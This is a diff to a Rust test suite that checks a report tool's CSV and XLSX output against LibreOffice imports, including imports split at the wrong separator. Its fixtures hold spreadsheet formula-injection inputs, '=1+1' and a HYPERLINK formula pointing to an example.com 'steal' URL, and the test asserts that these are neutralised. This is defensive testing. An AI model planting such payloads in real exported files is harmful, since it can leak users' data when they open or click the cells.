@@ -26,7 +26,6 @@ use calamine::{open_workbook, Data, Reader, Xlsx};
 use common::textgauge;
 use std::io::Write;
 use std::path::{Path, PathBuf};
-use textgauge::report::spreadsheet_safety::{needs_neutralizing, TEXT_MARK};
 
 /// LibreOffice language ids (LCIDs) used for CSV import.
 const EN_US: u32 = 1033;
@@ -88,23 +87,44 @@ fn reports_survive_a_libreoffice_round_trip() {
     for (language, name) in [(DE_DE, "de-DE"), (FR_FR, "fr-FR")] {
         check_csv_import(&soffice, &european, EUROPEAN, language, name);
     }
-
-    if !cfg!(feature = "xlsx") {
-        return;
+    for (dir, dialect) in [(&standard, STANDARD), (&european, EUROPEAN)] {
+        check_import_split_elsewhere(&soffice, dir, dialect);
     }
-    let workbook = standard.join("reports.xlsx");
-    let resaved = soffice.resave_xlsx(&workbook);
+    if cfg!(feature = "xlsx") {
+        let raw = run_textgauge(&inputs, work.path(), "raw", &["--raw-csv"]);
+        check_workbook(&soffice, &standard.join("reports.xlsx"), &raw);
+    }
+}
+
+/// Our workbook, read as written and after LibreOffice has opened and
+/// saved it: numbers as in the CSV, text exactly as in the raw CSV of `raw`.
+fn check_workbook(soffice: &LibreOffice, workbook: &Path, raw: &Path) {
+    let resaved = soffice.resave_xlsx(workbook);
     for report in REPORTS {
-        let csv = read_csv(&standard.join(format!("{report}.csv")), STANDARD);
-        for (path, how) in [(&workbook, "as written"), (&resaved, "after LibreOffice")] {
+        let csv = read_csv(&raw.join(format!("{report}.csv")), STANDARD);
+        for (path, how) in [
+            (workbook, "as written"),
+            (resaved.as_path(), "after LibreOffice"),
+        ] {
             let sheet = read_sheet(path, report);
-            assert_same_cells(
-                &csv,
-                &sheet,
-                STANDARD,
-                CellSource::Workbook,
-                &format!("{report} xlsx {how}"),
-            );
+            assert_same_cells(&csv, &sheet, STANDARD, &format!("{report} xlsx {how}"));
+        }
+    }
+}
+
+/// A file opened with the wrong separator (a comma CSV in a German Excel,
+/// which splits at `;`) starts cells inside our fields: LibreOffice splits
+/// every report at each other separator (`,` or `;`, tab, `|`) in turn,
+/// and no cell may come out as a formula (`read_sheet` checks).
+fn check_import_split_elsewhere(soffice: &LibreOffice, dir: &Path, dialect: Dialect) {
+    for separator in [b',', b';', b'\t', b'|'] {
+        if separator == dialect.delimiter {
+            continue;
+        }
+        let name = format!("split-at-{separator}");
+        let converted = soffice.convert_csv(dir, &separator.to_string(), EN_US, &name);
+        for report in REPORTS {
+            read_sheet(&converted.join(format!("{report}.xlsx")), report);
         }
     }
 }
@@ -122,8 +142,7 @@ fn check_csv_import(
     for report in REPORTS {
         let csv = read_csv(&dir.join(format!("{report}.csv")), dialect);
         let sheet = read_sheet(&converted.join(format!("{report}.xlsx")), report);
-        let what = format!("{report} {name}");
-        assert_same_cells(&csv, &sheet, dialect, CellSource::Csv, &what);
+        assert_same_cells(&csv, &sheet, dialect, &format!("{report} {name}"));
     }
 }
 
@@ -136,6 +155,7 @@ fn hostile_inputs(dir: &Path) -> PathBuf {
         ("injection.txt", "=1+1.txt"),
         ("unicode.txt", "-2+3 «unicode».txt"),
         ("plain.txt", "11-12.txt"),
+        ("dates.txt", "Monday, 5 May.txt"),
     ] {
         std::fs::copy(fixtures.join("articles").join(from), articles.join(to)).unwrap();
     }
@@ -167,7 +187,15 @@ fn check_contents_of_the_csv(dir: &Path) {
     let docs = read_csv(&dir.join("documents.csv"), STANDARD);
     let column = |name: &str| docs[0].iter().position(|h| h == name).unwrap();
     let ids: Vec<&str> = docs[1..].iter().map(|r| r[0].as_str()).collect();
-    assert_eq!(ids, ["'-2+3 «unicode».txt", "11-12.txt", "'=1+1.txt"]);
+    assert_eq!(
+        ids,
+        [
+            "'-2+3 «unicode».txt",
+            "11-12.txt",
+            "'=1+1.txt",
+            "Monday, 5 May.txt"
+        ]
+    );
     let titles: Vec<&str> = docs[1..]
         .iter()
         .map(|r| r[column("title")].as_str())
@@ -177,7 +205,8 @@ fn check_contents_of_the_csv(dir: &Path) {
         [
             "“Привет” — مرحبا — Café Ñandú 🎉",
             "Why Councils Struggle With Long-Term Planning",
-            "'=HYPERLINK(\"http://example.com/steal?d=\",\"Click for details\")"
+            "'=HYPERLINK(\"http://example.com/steal?d=\",\"Click for details\")",
+            "'Monday, May 5, 2024",
         ]
     );
     let band = &docs[2][column("dale_chall_grade")];
@@ -188,30 +217,15 @@ fn check_contents_of_the_csv(dir: &Path) {
     assert_eq!(names[2], "'-risk");
 }
 
-/// Where the cells being checked come from, which decides how text reads.
-#[derive(Clone, Copy, PartialEq)]
-enum CellSource {
-    /// A CSV imported by the spreadsheet: text exactly as in the file.
-    Csv,
-    /// Our workbook: text as it is, without the CSV's neutralizing `'`.
-    Workbook,
-}
-
 /// Every cell of `sheet` is what the CSV field says it should be.
-fn assert_same_cells(
-    csv: &[Vec<String>],
-    sheet: &[Vec<Data>],
-    dialect: Dialect,
-    source: CellSource,
-    what: &str,
-) {
+fn assert_same_cells(csv: &[Vec<String>], sheet: &[Vec<Data>], dialect: Dialect, what: &str) {
     assert_eq!(sheet.len(), csv.len(), "{what}: rows");
     let header = &csv[0];
     for (r, (fields, cells)) in csv.iter().zip(sheet).enumerate() {
         for (c, field) in fields.iter().enumerate() {
             let cell = cells.get(c).unwrap_or(&Data::Empty);
             let text = r == 0 || TEXT_COLUMNS.contains(&header[c].as_str());
-            let expected = expected_cell(field, text, dialect, source);
+            let expected = expected_cell(field, text, dialect);
             let same = match (&expected, cell) {
                 (Data::Float(a), Data::Float(b)) => (a - b).abs() <= 1e-9 * a.abs().max(1.0),
                 (Data::Float(a), Data::Int(b)) => *a == *b as f64,
@@ -229,31 +243,24 @@ fn assert_same_cells(
 }
 
 /// What a CSV field must become: in a number column, the number it shows
-/// in the dialect; in a text column, the text (for the workbook, without
-/// the neutralizing mark).
-fn expected_cell(field: &str, text: bool, dialect: Dialect, source: CellSource) -> Data {
+/// in the dialect; in a text column, the text exactly.
+fn expected_cell(field: &str, text: bool, dialect: Dialect) -> Data {
     if field.is_empty() {
         return Data::Empty;
     }
-    if !text {
-        let number = if dialect.decimal_comma {
-            field.replace(',', ".")
-        } else {
-            field.to_owned()
-        };
-        let plain = number
-            .bytes()
-            .all(|b| b.is_ascii_digit() || b == b'.' || b == b'-');
-        assert!(plain, "a number column holds {field:?}");
-        return Data::Float(number.parse().unwrap());
+    if text {
+        return Data::String(field.to_owned());
     }
-    let unmarked = field
-        .strip_prefix(TEXT_MARK)
-        .filter(|rest| needs_neutralizing(rest));
-    match (source, unmarked) {
-        (CellSource::Workbook, Some(raw)) => Data::String(raw.to_owned()),
-        _ => Data::String(field.to_owned()),
-    }
+    let number = if dialect.decimal_comma {
+        field.replace(',', ".")
+    } else {
+        field.to_owned()
+    };
+    let plain = number
+        .bytes()
+        .all(|b| b.is_ascii_digit() || b == b'.' || b == b'-');
+    assert!(plain, "a number column holds {field:?}");
+    Data::Float(number.parse().unwrap())
 }
 
 fn read_csv(path: &Path, dialect: Dialect) -> Vec<Vec<String>> {
@@ -344,14 +351,17 @@ impl LibreOffice {
     /// `language`, detecting special numbers and evaluating formulas, and
     /// save each as XLSX into a new folder.
     fn csv_to_xlsx(&self, dir: &Path, dialect: Dialect, language: u32, name: &str) -> PathBuf {
+        self.convert_csv(dir, &dialect.delimiter.to_string(), language, name)
+    }
+
+    /// The same with `separators` (ASCII codes joined by `/`).
+    fn convert_csv(&self, dir: &Path, separators: &str, language: u32, name: &str) -> PathBuf {
         let out = dir.join(format!("libreoffice-{name}"));
-        // Tokens: separator, quote, UTF-8 (76), first line, column formats
+        // Tokens: separators, quote, UTF-8 (76), first line, column formats
         // (none), language, quoted field as text (no), detect special numbers
         // (yes), scientific (no), ---, trim spaces (no), sheet, evaluate formulas (yes).
-        let filter = format!(
-            "CSV:{},34,76,1,,{language},false,true,false,false,false,-1,true",
-            dialect.delimiter
-        );
+        let filter =
+            format!("CSV:{separators},34,76,1,,{language},false,true,false,false,false,-1,true");
         let files: Vec<PathBuf> = REPORTS
             .iter()
             .map(|r| dir.join(format!("{r}.csv")))
